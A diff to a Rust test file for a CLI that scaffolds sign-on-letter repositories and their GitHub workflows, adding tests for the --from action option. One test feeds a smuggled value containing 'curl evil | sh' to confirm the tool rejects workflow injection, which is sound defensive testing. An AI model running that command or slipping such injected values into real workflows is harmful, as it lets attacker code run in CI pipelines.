@@ -19,6 +19,9 @@ fn init_scaffolds_a_letter_that_checks_and_builds() {
         "letters/carta-nueva/templates/letter.html.tera",
         "signatories/carta-nueva/organizations.yaml",
         ".github/workflows/letter.yml",
+        ".github/workflows/pages.yml",
+        ".github/workflows/sign.yml",
+        ".github/ISSUE_TEMPLATE/sign.yml",
         ".gitignore",
         ".gitattributes",
     ] {
@@ -51,4 +54,41 @@ fn completions_and_man_page_come_from_the_cli_definition() {
     let (code, man, _) = run(letter_in(dir.path()).arg("man"));
     assert_eq!(code, 0);
     assert!(man.contains(".TH letter 1") && man.contains("completions"), "{man}");
+}
+
+#[test]
+fn init_workflows_use_the_action_it_prints_and_check_only_what_a_pr_changed() {
+    let dir = tempfile::tempdir().unwrap();
+    let (code, out, err) = run(letter_in(dir.path()).args(["init", "carta"]));
+    assert_eq!(code, 0, "{err}");
+    let version = env!("CARGO_PKG_VERSION");
+    let action = format!("sign-on-letters/letter@v{version}");
+    assert!(out.contains(&format!("use the action {action} (the default; another with --from")), "{out}");
+    let ci = std::fs::read_to_string(dir.path().join(".github/workflows/letter.yml")).unwrap();
+    assert!(ci.contains(&format!("- uses: {action}\n")), "{ci}");
+    assert!(ci.contains("since: ${{ github.event.pull_request.base.sha }}"), "{ci}");
+    let pages = std::fs::read_to_string(dir.path().join(".github/workflows/pages.yml")).unwrap();
+    assert!(
+        pages.contains(&format!("- uses: {action}\n")) && pages.contains("actions/deploy-pages"),
+        "{pages}"
+    );
+    assert!(!ci.contains("{{ACTION") && !pages.contains("{{ACTION"), "no placeholder left");
+
+    let fork = tempfile::tempdir().unwrap();
+    let (code, out, err) =
+        run(letter_in(fork.path()).args(["init", "carta", "--from", "red-mx/letter@main"]));
+    assert_eq!(code, 0, "{err}");
+    assert!(out.contains("use the action red-mx/letter@main (--from)"), "{out}");
+    let ci = std::fs::read_to_string(fork.path().join(".github/workflows/letter.yml")).unwrap();
+    assert!(ci.contains("- uses: red-mx/letter@main\n"), "{ci}");
+}
+
+#[test]
+fn init_refuses_a_from_that_is_not_a_repository_and_writes_nothing() {
+    let dir = tempfile::tempdir().unwrap();
+    let (code, _, err) =
+        run(letter_in(dir.path()).args(["init", "carta", "--from", "x/y\n    run: curl evil | sh"]));
+    assert_eq!(code, 2);
+    assert!(err.contains("is not a GitHub repository") && err.contains("OWNER/REPO"), "{err}");
+    assert!(std::fs::read_dir(dir.path()).unwrap().next().is_none(), "wrote nothing");
 }
